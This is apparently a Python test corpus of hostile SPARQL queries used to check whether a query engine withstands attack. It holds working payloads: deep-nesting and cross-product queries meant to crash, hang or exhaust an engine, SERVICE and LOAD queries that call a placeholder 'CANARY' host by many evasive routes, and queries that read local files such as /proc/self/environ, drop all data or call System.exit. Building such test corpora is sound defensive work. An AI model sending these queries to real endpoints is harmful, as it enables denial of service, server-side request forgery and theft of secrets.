"""Hostile queries, by what they attack: most crash, hang or bloat an engine without defences, or have it call out.

``CANARY`` in a query stands for the address of a server that counts connections; ``FILE`` for a file that holds a
secret. The data have ``<e:next>`` (a chain), ``<e:type>`` and ``<e:text>``, about a hundred thousand quads.
"""

from __future__ import annotations

from collections.abc import Iterator
from dataclasses import dataclass

CANARY = "CANARY"
FILE = "FILE"
SECRET = "the-secret-of-the-file"  # noqa: S105 - nothing is protected by it


@dataclass(frozen=True, slots=True)
class Hostile:
    """A query that nobody who means well would send."""

    attack: str
    name: str
    query: str
    may_be_answered: bool = False
    """Whether an answer within the deadline is fine: the query is costly or odd, but an engine may cope."""


def nest(opening: str, middle: str, closing: str, times: int) -> str:
    """Put something into brackets, again and again."""
    return opening * times + middle + closing * times


def values(name: str, count: int) -> str:
    """A table of so many numbers."""
    return f"VALUES ?{name} {{ {' '.join(map(str, range(count)))} }}"


ALL = "?s ?p ?o"
TWO = "?a ?b ?c . ?d ?e ?f"
LONG = "STRLEN(CONCAT(STR(?c), STR(?f))) = 10000"
"""True of no two values, and each two must be looked at."""
THREE = f"{TWO} . ?g ?h ?i"

_STACK = {
    "open braces": "ASK " + "{" * 5000,
    "closed braces": "ASK " + nest("{", "", "}", 5000),
    "braces with patterns": "SELECT * " + nest("{ ?s ?p ?o ", "", "}", 3000),
    "parentheses": "SELECT * { FILTER(" + nest("(", "1", ")", 8000) + ") }",
    "EXISTS": "ASK " + nest("{ FILTER EXISTS ", "{}", "}", 2000),
    "NOT EXISTS": "ASK " + nest("{ FILTER NOT EXISTS ", "{}", "}", 2000),
    "sub-selects": nest("SELECT * { ", ALL, "}", 2500),
    "optionals in optionals": "SELECT * " + nest("{ OPTIONAL ", "{}", "}", 2500),
    "minuses": "SELECT * " + nest("{ MINUS ", "{}", "}", 2500),
    "unions": "SELECT * " + nest("{ {} UNION ", "{}", "}", 2500),
    "graphs": "SELECT * " + nest("{ GRAPH ?g ", "{}", "}", 2500),
    "collections": "SELECT * { ?s ?p " + nest("(", "", ")", 8000) + " }",
    "blank nodes": "SELECT * { ?s ?p " + nest("[ ?p ", "1", "]", 8000) + " }",
    "negations": "SELECT * { FILTER(" + "!" * 20000 + "true) }",
    "minus signs": "SELECT * { FILTER(" + "- " * 20000 + "1 = 1) }",
    "a sum": "SELECT * { FILTER(1" + "+1" * 15000 + " = 1) }",
    "a conjunction": "SELECT * { FILTER(true" + "&&true" * 20000 + ") }",
    "a disjunction": "SELECT * { FILTER(false" + "||false" * 20000 + ") }",
    "IF in IF": "SELECT * { FILTER(" + nest("IF(true,", "true", ",false)", 6000) + ") }",
    "COALESCE in COALESCE": "SELECT * { FILTER(" + nest("COALESCE(", "true", ")", 6000) + ") }",
    "paths in parentheses": "SELECT * { ?s " + nest("(", "<e:next>", ")", 8000) + " ?o }",
    "inverse paths": "SELECT * { ?s " + "^" * 20000 + "<e:next> ?o }",
}
_PLANNER = {
    "a path of 1,000 steps": "ASK { ?s <e:next>" + "/<e:next>" * 1000 + " ?o }",
    "a path of 5,000 steps": "ASK { ?s <e:next>" + "/<e:next>" * 5000 + " ?o }",
    "a path of 2,000 alternatives": "SELECT * { ?s (<e:next>" + "|<e:next>" * 2000 + ")* ?o }",
    "nested stars": "SELECT (COUNT(*) AS ?n) { ?s " + nest("(", "<e:next>", ")*", 400) + " ?o }",
    "nested pluses": "SELECT (COUNT(*) AS ?n) { ?s " + nest("(", "<e:next>/<e:next>", ")+", 60) + " ?o }",
    "3,000 optionals": "SELECT * { " + "".join(f"OPTIONAL {{ ?s <e:p{i}> ?o{i} }} " for i in range(3000)) + "}",
    "500 triples": "SELECT * { " + " . ".join(f"?v{i} ?p{i} ?v{i + 1}" for i in range(500)) + " }",
    "1,000 unions": "SELECT * { " + " UNION ".join(f"{{ ?s <e:p{i}> ?o }}" for i in range(1000)) + " }",
    "triple terms in triple terms": "SELECT * { ?s ?p " + nest("<<( <e:s> <e:p> ", "1", " )>>", 2000) + " }",
    "a negated set of 3,000 properties": "SELECT (COUNT(*) AS ?n) { ?s !(<e:q>"
    + "".join(f"|<e:p{i}>" for i in range(3000))
    + ") ?o }",
    "2,000 filters": "SELECT * { ?s ?p ?o " + "".join(f"FILTER(?o != {i}) " for i in range(2000)) + "}",
    "60 triples in a ring": "SELECT * { " + " . ".join(f"?v{i} ?p{i} ?v{(i + 1) % 60}" for i in range(60)) + " }",
    "1,000 orders": "SELECT * { ?s ?p ?o } ORDER BY "
    + " ".join(f"STRLEN(CONCAT(STR(?o), '{i}'))" for i in range(1000)),
    "a chain of 3,000 BINDs": "SELECT * { BIND(1 AS ?v0) "
    + "".join(f"BIND(?v{i} + 1 AS ?v{i + 1}) " for i in range(3000))
    + "}",
}
_PROCESSOR = {
    "a cross product counted": f"SELECT (COUNT(*) AS ?n) {{ {THREE} }}",
    "ASK over a cross product": f"ASK {{ {THREE} FILTER(STRLEN(CONCAT(STR(?c), STR(?f), STR(?i))) = 10000) }}",
    "an unbound star": "SELECT (COUNT(*) AS ?n) { ?s (<e:next>|^<e:next>)* ?o }",
    "an unbound plus of anything": "SELECT (COUNT(*) AS ?n) { ?s (<e:next>|!<e:next>)+ ?o }",
    "VALUES times VALUES": "SELECT (COUNT(*) AS ?n) { " + " ".join(values(name, 300) for name in "abcd") + " }",
    "VALUES times VALUES, summed": "SELECT (SUM(?a * ?b) AS ?n) { "
    + " ".join(values(name, 300) for name in "abcd")
    + " }",
    "a regular expression of each row": f"SELECT * {{ {TWO} FILTER(REGEX(STR(?c), CONCAT('^(', STR(?f), '|a*)*$'))) }}",
    "NOT EXISTS of a cross product": f"SELECT * {{ {ALL} FILTER NOT EXISTS {{ {TWO} FILTER(?c = ?nobody) }} }}",
    "a subtraction of cross products": f"SELECT (COUNT(*) AS ?n) {{ {{ {TWO} }} MINUS {{ ?a ?b ?c . ?d ?e ?g }} }}",
    "hashes of a cross product": f"SELECT (COUNT(SHA512(CONCAT(STR(?c), STR(?f)))) AS ?n) {{ {TWO} }}",
    "CONSTRUCT of nothing": f"CONSTRUCT {{ ?a ?e ?f }} WHERE {{ {TWO} FILTER({LONG}) }}",
    "DESCRIBE of nothing": f"DESCRIBE ?a ?d WHERE {{ {TWO} FILTER({LONG}) }}",
    "random rows in order": f"SELECT * {{ {TWO} }} ORDER BY RAND() LIMIT 1",
    "HAVING of a cross product": "SELECT ?a (SUM(?b * ?c * ?d) AS ?n) { "
    + " ".join(values(name, 300) for name in "abcd")
    + " } GROUP BY ?a HAVING (SUM(?b) < 0)",
    "an offset beyond everything": "SELECT * { "
    + " ".join(values(name, 300) for name in "abcd")
    + " } LIMIT 1 OFFSET 8000000000",
    "EXISTS of numbers": f"SELECT * {{ {values('a', 300)} {values('b', 300)} FILTER EXISTS {{ {values('c', 300)} "
    f"{values('d', 300)} FILTER(?a + ?b + ?c + ?d = -1) }} }}",
    "UUIDs of a cross product": "SELECT (COUNT(DISTINCT STRUUID()) AS ?n) { "
    + " ".join(values(name, 300) for name in "abcd")
    + " }",
    "MINUS of numbers": f"SELECT (COUNT(*) AS ?n) {{ {values('a', 3000)} MINUS {{ {values('b', 300)} "
    f"{values('c', 300)} {values('d', 300)} FILTER(?b = ?c) }} }}",
    "a bomb of unbound variables": "SELECT (COUNT(*) AS ?n) { { ?a ?b ?c } { ?d ?e ?f } "
    "OPTIONAL { ?g ?h ?i FILTER(?i = ?c) } }",
}
_MEMORY = {
    "ORDER BY over a cross product": f"SELECT * {{ {TWO} }} ORDER BY ?c",
    "DISTINCT over a cross product": f"SELECT DISTINCT * {{ {TWO} }}",
    "GROUP BY over a cross product": f"SELECT ?a ?d (COUNT(*) AS ?n) {{ {TWO} }} GROUP BY ?a ?d",
    "GROUP_CONCAT over a cross product": f"SELECT (GROUP_CONCAT(?c) AS ?n) {{ {TWO} }}",
    "COUNT DISTINCT over a cross product": f"SELECT (COUNT(DISTINCT CONCAT(STR(?c), STR(?f))) AS ?n) {{ {TWO} }}",
    "doubling by CONCAT": "SELECT (STRLEN(?v40) AS ?n) { BIND('xxxxxxxx' AS ?v0) "
    + "".join(f"BIND(CONCAT(?v{i}, ?v{i}) AS ?v{i + 1}) " for i in range(40))
    + "}",
    "growing by REPLACE": "SELECT (STRLEN(?v12) AS ?n) { BIND('xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx' AS ?v0) "
    + "".join(f"BIND(REPLACE(?v{i}, 'x', 'xxxxxxxxxxxxxxxx') AS ?v{i + 1}) " for i in range(12))
    + "}",
    "growing by ENCODE_FOR_URI": "SELECT (STRLEN(?v20) AS ?n) { BIND(CONCAT('%%%%%%%%', 'жжжжжжжж') AS ?v0) "
    + "".join(f"BIND(ENCODE_FOR_URI(CONCAT(?v{i}, ?v{i})) AS ?v{i + 1}) " for i in range(20))
    + "}",
    "a datatype that grows": "SELECT (STRLEN(STR(?v30)) AS ?n) { BIND('xxxxxxxx' AS ?v0) "
    + "".join(f"BIND(STR(STRDT(CONCAT(?v{i}, ?v{i}), <e:t>)) AS ?v{i + 1}) " for i in range(34))
    + " BIND(STRDT(CONCAT(?v34, ?v34, ?v34, ?v34), <e:t>) AS ?w) }",
    "an IRI that grows": "SELECT (STRLEN(STR(?w)) AS ?n) { BIND('e:xxxxxxx' AS ?v0) "
    + "".join(f"BIND(CONCAT(?v{i}, ?v{i}) AS ?v{i + 1}) " for i in range(34))
    + " BIND(IRI(CONCAT(?v34, ?v34)) AS ?w) }",
    "ORDER BY over numbers": "SELECT * { "
    + " ".join(values(name, 300) for name in "abcd")
    + " } ORDER BY DESC(?a + ?b * ?c - ?d)",
    "DISTINCT over numbers": "SELECT DISTINCT (CONCAT(STR(?a), ' ', STR(?b), ' ', STR(?c), ' ', STR(?d)) AS ?x) { "
    + " ".join(values(name, 300) for name in "abcd")
    + " }",
    "GROUP_CONCAT by groups": "SELECT ?a (GROUP_CONCAT(?x; SEPARATOR='xxxxxxxxxxxxxxxx') AS ?y) { "
    + " ".join(values(name, 300) for name in "abcd")
    + " BIND(CONCAT(STR(?b), STR(?c), STR(?d)) AS ?x) } GROUP BY ?a",
    "a hash join of everything": f"SELECT (COUNT(*) AS ?n) {{ {{ SELECT * {{ {TWO} }} }} "
    "{ SELECT * { ?a ?x ?y . ?d ?z ?w } } }",
}
_EXPRESSIONS = {
    "((a{1000}){1000}){1000}": f"SELECT * {{ {ALL} FILTER(REGEX(STR(?o), '((a{{1000}}){{1000}}){{1000}}')) }}",
    "a repeated alternative": f"SELECT * {{ {ALL} FILTER(REGEX(STR(?o), '^(a|a|aa)+{'(x+x+)+' * 2000}$')) }}",
    "nested groups": f"SELECT * {{ {ALL} FILTER(REGEX(STR(?o), '{nest('(', 'a', ')*', 3000)}')) }}",
    "a class of everything": f"SELECT * {{ {ALL} FILTER(REGEX(STR(?o), '{'[^x]{0,1000}' * 200}')) }}",
    "(a+)+$": f"SELECT * {{ {ALL} FILTER(REGEX('{'a' * 20000}!', '^(a+)+$')) }}",
}
_COPIOUS = {
    "a streamed cross product": f"SELECT * {{ {TWO} }}",
    "a constructed cross product": f"CONSTRUCT {{ ?a ?e ?f }} WHERE {{ {TWO} }}",
    "all text, many times": f"SELECT * {{ {ALL} {values('x', 2000)} }}",
    "a streamed cross product of numbers": "SELECT * { " + " ".join(values(name, 300) for name in "abcd") + " }",
    "a graph of numbers": "CONSTRUCT { ?s <e:a> ?a ; <e:b> ?b ; <e:c> ?c } WHERE { BIND(<e:s> AS ?s) "
    + " ".join(values(name, 300) for name in "abc")
    + " }",
    "long rows": f"SELECT (CONCAT('{'x' * 30_000}', STR(?a), STR(?b)) AS ?x) "
    f"{{ {values('a', 300)} {values('b', 300)} }}",
}
_TEXT = {
    "a huge IRI": f"SELECT * {{ <e:{'x' * 1_000_000}> ?p ?o }}",
    "a huge literal": f"SELECT * {{ ?s ?p '{'x' * 1_000_000}' }}",
    "a huge prefix": f"PREFIX {'p' * 100_000}: <e:> SELECT * {{ {ALL} }} LIMIT 1",
    "20,000 prefixes": "".join(f"PREFIX p{i}: <e:{i}>\n" for i in range(20_000)) + "ASK {}",
    "20,000 variables": "SELECT " + " ".join(f"?v{i}" for i in range(20_000)) + f" {{ {ALL} }} LIMIT 1",
    "a huge number": f"SELECT * {{ FILTER(1{'0' * 100_000} > 1) }}",
    "a comment without end": "ASK {} #" + "x" * 1_000_000,
    "an escape without end": "ASK { ?s ?p '" + "\\u0041" * 50_000 + "' }",
    "nothing": "",
    "a null": "ASK { ?s ?p '\x00' }",
    "half a pair": "ASK { ?s ?p '\ud800' }",
}
_CALLS = {
    "SERVICE": "SELECT * { SERVICE <CANARY> { ?s ?p ?o } }",
    "SERVICE SILENT": "SELECT * { SERVICE SILENT <CANARY> { ?s ?p ?o } }",
    "service": "SELECT * { service <CANARY> { ?s ?p ?o } }",
    "SeRvIcE": "SELECT * { SeRvIcE<CANARY>{ ?s ?p ?o } }",
    "SERVICE after a number": "SELECT * { FILTER(?x = 1e0SERVICE<CANARY>{ ?s ?p ?o }) }",
    "SERVICE behind a number in a triple": "SELECT * { ?x <e:number> 7SERVICE<CANARY>{ ?s ?p ?o } }",
    "SERVICE behind true": "SELECT * { ?s ?p trueSERVICE<CANARY>{ ?s ?p ?o } }",
    "SERVICE with comments": "SELECT * { SERVICE#\n#<e:x>\n<CANARY>#\n{ ?s ?p ?o } }",
    "SERVICE by prefix": "PREFIX c: <CANARY/> SELECT * { SERVICE c:sparql { ?s ?p ?o } }",
    "SERVICE by base": "BASE <CANARY/> SELECT * { SERVICE <sparql> { ?s ?p ?o } }",
    "SERVICE by variable": "SELECT * { VALUES ?where { <CANARY> } SERVICE ?where { ?s ?p ?o } }",
    "SERVICE by data": "SELECT * { BIND(IRI('CANARY') AS ?where) SERVICE SILENT ?where { ?s ?p ?o } }",
    "SERVICE in EXISTS": "ASK { ?s ?p ?o FILTER EXISTS { SERVICE <CANARY> { ?s ?p ?o } } }",
    "SERVICE in NOT EXISTS": "ASK { FILTER NOT EXISTS { SERVICE SILENT <CANARY> { ?s ?p ?o } } }",
    "SERVICE in a sub-select": "SELECT * { { SELECT * { SERVICE <CANARY> { ?s ?p ?o } } } }",
    "SERVICE in OPTIONAL": "SELECT * { ?s ?p ?o OPTIONAL { SERVICE SILENT <CANARY> { ?s ?p ?o } } } LIMIT 1",
    "SERVICE in MINUS": "SELECT * { ?s ?p ?o MINUS { SERVICE SILENT <CANARY> { ?s ?p ?o } } } LIMIT 1",
    "SERVICE in UNION": "SELECT * { {} UNION { SERVICE SILENT <CANARY> { ?s ?p ?o } } }",
    "SERVICE in GRAPH": "SELECT * { GRAPH ?g { SERVICE SILENT <CANARY> { ?s ?p ?o } } }",
    "SERVICE in CONSTRUCT": "CONSTRUCT { ?s ?p ?o } WHERE { SERVICE <CANARY> { ?s ?p ?o } }",
    "SERVICE in DESCRIBE": "DESCRIBE ?s WHERE { SERVICE <CANARY> { ?s ?p ?o } }",
    "SERVICE by escapes": "SELECT * { \\u0053ERVICE <CANARY> { ?s ?p ?o } }",
    "SERVICE with escapes in the IRI": "SELECT * { SERVICE <CANARY/\\u0061> { ?s ?p ?o } }",
    "SERVICE behind a comparison": "SELECT * { ?a ?p ?b FILTER(?a<?b)SERVICE<CANARY>{ ?s ?p ?o } }",
    "SERVICE behind what looks like an IRI": "SELECT * { FILTER(1<2)SERVICE#>\n<CANARY>{ ?s ?p ?o } }",
    "SERVICE behind a string": "SELECT * { ?s ?p '''a'b'''SERVICE SILENT<CANARY>{ ?s ?p ?o } }",
    "SERVICE with a name and password": "SELECT * { SERVICE <http://a:b@HOSTPORT/> { ?s ?p ?o } }",
    "SERVICE by number": "SELECT * { SERVICE <http://2130706433:PORT/> { ?s ?p ?o } }",
    "SERVICE by short number": "SELECT * { SERVICE <http://127.1:PORT/> { ?s ?p ?o } }",
    "SERVICE by name": "SELECT * { SERVICE <http://localhost:PORT/> { ?s ?p ?o } }",
    "SERVICE by the sixth version": "SELECT * { SERVICE <http://[::ffff:127.0.0.1]:PORT/> { ?s ?p ?o } }",
    "SERVICE over TLS": "SELECT * { SERVICE <https://HOSTPORT/> { ?s ?p ?o } }",
    "SERVICE of a file": "SELECT * { SERVICE <FILE> { ?s ?p ?o } }",
    "two of them": "SELECT * { SERVICE SILENT <CANARY> { ?s ?p ?o } SERVICE SILENT <CANARY> { ?s ?q ?r } }",
    "a prefix called SERVICE": "PREFIX xSERVICE: <CANARY/> SELECT * { ?s ?p 1 . ?s ?p xSERVICE:a { ?s ?p ?o } }",
    "LOAD": "LOAD <CANARY>",
    "LOAD SILENT into a graph": "LOAD SILENT <CANARY> INTO GRAPH <e:g>",
    "LOAD of a file": "LOAD <FILE>",
    "LOAD behind a query": "ASK {} ; LOAD <CANARY>",
    "INSERT with SERVICE": "INSERT { ?s ?p ?o } WHERE { SERVICE <CANARY> { ?s ?p ?o } }",
    "DROP": "DROP ALL",
    "INSERT DATA": "INSERT DATA { <e:a> <e:b> <e:c> }",
}
_READS = {
    "FROM a file": "SELECT * FROM <FILE> { ?s ?p ?o }",
    "FROM NAMED a file": "SELECT * FROM NAMED <FILE> { GRAPH ?g { ?s ?p ?o } }",
    "FROM an address": "SELECT * FROM <CANARY> { ?s ?p ?o }",
    "FROM NAMED an address": "SELECT * FROM NAMED <CANARY> { GRAPH ?g { ?s ?p ?o } }",
    "GRAPH of a file": "SELECT * { GRAPH <FILE> { ?s ?p ?o } }",
    "a function of its own": "SELECT (<java:java.lang.System.exit>(1) AS ?x) (<FILE>(1) AS ?y) { }",
    "a folder of processes": "SELECT * FROM <file:///proc/self/environ> { ?s ?p ?o }",
}


def _corpus() -> Iterator[Hostile]:
    costly = {
        "stack": (_STACK, True),
        "planner": (_PLANNER, True),
        "processor": (_PROCESSOR, False),
        "memory": (_MEMORY, False),
        "expressions": (_EXPRESSIONS, True),
        "copious": (_COPIOUS, False),
        "text": (_TEXT, True),
        "calls": (_CALLS, True),
        "reads": (_READS, True),
    }
    for attack, (queries, may_be_answered) in costly.items():
        for name, query in queries.items():
            yield Hostile(attack, name, query, may_be_answered)


CORPUS = tuple(_corpus())


def place(query: str, *, address: str, file_iri: str) -> str:
    """Put the canary's address (``http://127.0.0.1:PORT``) and the file's IRI into a query."""
    host_and_port = address.removeprefix("http://")
    port = host_and_port.rpartition(":")[2]
    query = query.replace("HOSTPORT", host_and_port).replace(":PORT", f":{port}")
    return query.replace(CANARY, address).replace(FILE, file_iri)
